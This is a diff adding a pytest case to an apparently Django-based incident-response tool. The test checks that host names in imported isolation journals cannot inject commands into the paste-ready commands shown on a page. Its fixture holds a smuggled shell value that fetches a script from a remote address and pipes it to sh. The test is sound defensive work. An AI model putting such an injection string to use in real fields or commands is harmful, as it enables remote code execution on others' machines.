@@ -11,11 +11,12 @@ import pytest
 from django.test import Client
 from django.utils import translation
 
-from hikeshi.contain import evidence, isolation
+from hikeshi.casebook import services as casebook
+from hikeshi.contain import evidence, evidence_import, isolation
 from hikeshi.contain import services as contain
 from hikeshi.contain.services import Given
 from hikeshi.engines.common.problem import Problem
-from hikeshi.engines.evidence import Order
+from hikeshi.engines.evidence import Order, journal
 from hikeshi.engines.isolation import Plan
 from tests.cast import Cast, assemble
 from tests.contain.test_evidence import quick
@@ -163,3 +164,43 @@ def test_names_from_outside_cannot_redraw_the_page(cast: Cast) -> None:
     (text,) = said(case, "証拠")
     assert "<U+202E>" in text
     assert "\x1b" not in text
+
+
+INTENDED = {
+    "isolation": "i1", "host": "root@web1", "verb": "on", "way": "ssh", "allow": [], "timer": 60, "tool": "hikeshi",
+}  # fmt: skip
+DONE = {
+    "isolation": "i1", "host": "root@web1", "machine": "web1", "verb": "on", "state": "isolated", "already": False,
+    "allow": [], "layers": [], "worked": [], "failed": [], "after_reboot": False, "undo": "",
+}  # fmt: skip
+EVIL = "web1; curl http://192.0.2.66/x|sh #"
+
+
+def journal_of(path: Path, cast: Cast, *lines: tuple[str, dict[str, Any]]) -> Path:
+    """A journal that somebody brings."""
+    path.parent.mkdir(exist_ok=True)
+    book = journal.Journal(path)
+    for kind, data in lines:
+        book.append(kind, 1, data, cast.actor)
+    return path
+
+
+def test_no_journal_puts_a_command_into_the_page(cast: Cast, tmp_path: Path) -> None:
+    """持ち込まれた手控えの機械の名前に命令が紛れていても、取り込まず、貼り付ける命令には決して出ない。手控えは残る。"""
+    case = cast.open_case()
+    path = journal_of(
+        tmp_path / "a.tar.journal",
+        cast,
+        ("isolation.intended", {**INTENDED, "host": EVIL}),
+        ("isolation.done", {**DONE, "host": EVIL}),
+        ("isolation.done", {**DONE, "host": "root@[2001:db8::1]", "isolation": "i2"}),
+        ("isolation.done", {**DONE, "host": ["web1"], "isolation": "i3"}),
+    )
+    evidence_import.take_in(case, path, cast.actor)
+    (text,) = said(case, "隔離")
+    assert "curl" not in text
+    assert "isolate off --host 'root@[2001:db8::1]'" in text
+    assert casebook.evidence_of(case).count() == 1
+    # Also where such a line is in the casebook already.
+    isolation.InCase(case, cast.actor).write("isolation.done", {**DONE, "host": EVIL}, {})
+    assert [text for text in said(case, "隔離") if "--host web1" in text] == []
